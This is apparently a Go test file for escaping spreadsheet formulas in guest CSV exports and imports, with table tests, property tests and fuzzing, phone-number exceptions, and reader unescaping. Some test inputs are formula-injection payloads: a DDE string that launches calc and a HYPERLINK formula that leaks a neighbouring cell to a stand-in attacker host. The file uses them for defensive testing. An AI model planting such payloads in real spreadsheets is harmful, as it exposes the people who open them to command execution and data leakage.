package guest

import (
	"regexp"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

func TestEscapeFormula(t *testing.T) {
	for _, tc := range []struct{ name, cell, want string }{
		{"nothing", "", ""},
		{"a name", "Jane", "Jane"},
		{"a number", "42", "42"},
		{"a formula", "=1+1", "'=1+1"},
		{"a call of another program", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"a link that tells others what stands beside it", `=HYPERLINK("https://evil.example.com/?"&A1,"x")`, `'=HYPERLINK("https://evil.example.com/?"&A1,"x")`},
		{"a sum", "+1+1", "'+1+1"},
		{"a negative number", "-1", "'-1"},
		{"a dash alone", "-", "'-"},
		{"a function, as Lotus wrote it", "@SUM(A1)", "'@SUM(A1)"},
		{"a name on the net", "@jane", "'@jane"},
		{"a tab first", "\t=1", "'\t=1"},
		{"a carriage return first", "\r=1", "'\r=1"},
		{"a line feed first is none", "\n=1", "\n=1"},
		{"a blank first is none", " =1", " =1"},
		{"a sign later on", "a=1", "a=1"},
		{"an address with a plus first", "+jane@acme.com", "'+jane@acme.com"},

		{"an apostrophe before a formula", "'=1", "''=1"},
		{"three apostrophes before a formula", "'''@x", "''''@x"},
		{"an apostrophe before a phone number", "'+49 30 1234567", "''+49 30 1234567"},
		{"an apostrophe before a name", "'t Hooft", "'t Hooft"},
		{"an apostrophe alone", "'", "'"},
		{"apostrophes alone", "''", "''"},

		{"a phone number with blanks", "+49 30 1234567", "+49 30 1234567"},
		{"a phone number of digits alone", "+14105550142", "+14105550142"},
		{"a phone number with dashes", "+1-410-555-0142", "+1-410-555-0142"},
		{"a phone number with dots", "+33.1.23.45.67.89", "+33.1.23.45.67.89"},
		{"a phone number with slashes", "+43/1/58858-0", "+43/1/58858-0"},
		{"a phone number with brackets", "+1 (410) 555-0142", "+1 (410) 555-0142"},
		{"a phone number with its national zero", "+44 (0)20 7946 0958", "+44 (0)20 7946 0958"},
		{"a phone number in brackets at once", "+(49) 30 1234567", "+(49) 30 1234567"},
		{"the shortest phone number", "+2904123", "+2904123"},
		{"too few digits for a phone number", "+290412", "'+290412"},
		{"the longest phone number", "+49 (0)123 4567 8901 23", "+49 (0)123 4567 8901 23"},
		{"too many digits for a phone number", "+12345678901234567", "'+12345678901234567"},
		{"no digit", "+", "'+"},
		{"two plus signs", "++49 30 1234567", "'++49 30 1234567"},
		{"a plus sign within", "+49 30+1234567", "'+49 30+1234567"},
		{"a minus sign at once", "+-49301234567", "'+-49301234567"},
		{"a sign at the end", "+49 30 1234567-", "'+49 30 1234567-"},
		{"a blank at the end", "+49 30 1234567 ", "'+49 30 1234567 "},
		{"an extension in letters", "+49 30 1234567 ext. 5", "'+49 30 1234567 ext. 5"},
		{"a second number", "+49 30 1234567, +49 30 7654321", "'+49 30 1234567, +49 30 7654321"},
		{"a program behind a phone number", "+49301234567|cmd", "'+49301234567|cmd"},
		{"a line break in a phone number", "+49 30\n1234567", "'+49 30\n1234567"},
		{"a phone number that begins with a minus", "-49 30 1234567", "'-49 30 1234567"},
		{"a phone number without a country", "(410) 555-0142", "(410) 555-0142"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := EscapeFormula(tc.cell)
			if got != tc.want {
				t.Errorf("%q becomes %q, want %q", tc.cell, got, tc.want)
			}
			checkFormula(t, tc.cell)
		})
	}
}

func TestUnescapeFormula(t *testing.T) {
	for _, tc := range []struct{ name, cell, want string }{
		{"nothing", "", ""},
		{"a protected formula", "'=1", "=1"},
		{"a formula that was never protected", "=1", "=1"},
		{"one apostrophe of several", "'''=1", "''=1"},
		{"a phone number that Excel was to take for a text", "'+49 30 1234567", "+49 30 1234567"},
		{"a tab", "'\t", "\t"},
		{"a name with an apostrophe", "'t Hooft", "'t Hooft"},
		{"an apostrophe alone", "'", "'"},
		{"an apostrophe later on", "O'=1", "O'=1"},
		{"a blank before the apostrophe", " '=1", " '=1"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := UnescapeFormula(tc.cell); got != tc.want {
				t.Errorf("%q becomes %q, want %q", tc.cell, got, tc.want)
			}
		})
	}
}

// What begins a formula, and what of that is nothing but a phone number, as the
// documentation words it.
var (
	formulaCell = regexp.MustCompile(`^'*[=+\-@\t\r]`)
	phoneCell   = regexp.MustCompile(`^\+\(*[0-9][0-9 ()\-./]*[0-9]$`)
)

// checkFormula checks what has to hold for every cell.
func checkFormula(t interface {
	Helper()
	Errorf(string, ...any)
}, cell string,
) {
	t.Helper()
	escaped := EscapeFormula(cell)
	if got := UnescapeFormula(escaped); got != cell {
		t.Errorf("%q comes back as %q", cell, got)
	}
	if escaped != cell && escaped != "'"+cell {
		t.Errorf("%q becomes %q", cell, escaped)
	}
	if strings.TrimLeft(escaped, "=+-@\t\r") != escaped && !phoneCell.MatchString(escaped) {
		t.Errorf("%q becomes %q, which a spreadsheet runs", cell, escaped)
	}
	if !formulaCell.MatchString(cell) && escaped != cell {
		t.Errorf("%q needs no protection and becomes %q", cell, escaped)
	}
	if WantsApostrophe([]byte(cell)) != (escaped != cell) {
		t.Errorf("%q as bytes is another cell", cell)
	}
}

func TestFormulasComeBack(t *testing.T) {
	telling := rapid.StringOfN(rapid.SampledFrom([]rune("'=+-@\t\r\n 0123456789().,/a|")), 0, 20, -1)
	rapid.Check(t, func(t *rapid.T) {
		checkFormula(t, rapid.OneOf(telling, rapid.String()).Draw(t, "cell"))
	})
}

func FuzzFormula(f *testing.F) {
	for _, cell := range []string{"", "'", "=1", "''=1", "+49 30 1234567", "'\r", "+(", "\xff"} {
		f.Add(cell)
	}
	f.Fuzz(func(t *testing.T, cell string) { checkFormula(t, cell) })
}

// The reader takes the protection off every value, wherever it stands and whether or
// not it is quoted, before it trims.
func TestReaderTakesProtectionOff(t *testing.T) {
	for _, tc := range []struct{ name, cell, want string }{
		{"a formula", "'=1+1", "=1+1"},
		{"quoted", `"'=1,1"`, "=1,1"},
		{"two apostrophes", "''=1", "'=1"},
		{"a tab, which the server trims", "'\t=1", "=1"},
		{"a carriage return, which the server trims", "\"'\r=1\"", "=1"},
		{"a phone number", "'+49 30 1234567", "+49 30 1234567"},
		{"a blank first, as nothing that was protected has", " '=1", "'=1"},
		{"a name with an apostrophe", "'t Hooft", "'t Hooft"},
		{"an apostrophe alone", "'", "'"},
		{"an apostrophe alone, quoted", `"'"`, "'"},
	} {
		for ends, end := range map[string]string{"LF": "\n", "CRLF": "\r\n", "no line end": ""} {
			for where, row := range map[string]string{"last cell": "ann@acme.com,", "other quotes": `"ann@acme.com",`} {
				t.Run(tc.name+", "+ends+", "+where, func(t *testing.T) {
					r, err := NewReader(strings.NewReader("email,first_name\r\n"+row+tc.cell+end), ReaderOptions{})
					if err != nil {
						t.Fatal(err)
					}
					got, err := r.Read()
					if err != nil || got.Unread != "" {
						t.Fatal(err, got.Unread)
					}
					if got.Guest.FirstName != tc.want || got.Guest.Email != "ann@acme.com" {
						t.Errorf("the row is %q, %q; want %q", got.Guest.Email, got.Guest.FirstName, tc.want)
					}
					// Rejects hold the cells as they were.
					if raw := strings.TrimSuffix(string(r.Raw()), tc.cell); raw != row {
						t.Errorf("the raw row is %q", r.Raw())
					}
				})
			}
		}
	}
}

// In the email as well: it tells who a row is about.
func TestReaderTakesProtectionOffAnEmail(t *testing.T) {
	r, err := NewReader(strings.NewReader("email\n'+jane@acme.com\n'-joe@acme.com\n"), ReaderOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"+jane@acme.com", "-joe@acme.com"} {
		row, err := r.Read()
		if err != nil || row.Guest.Email != want {
			t.Errorf("%q, %v; want %q", row.Guest.Email, err, want)
		}
	}
}
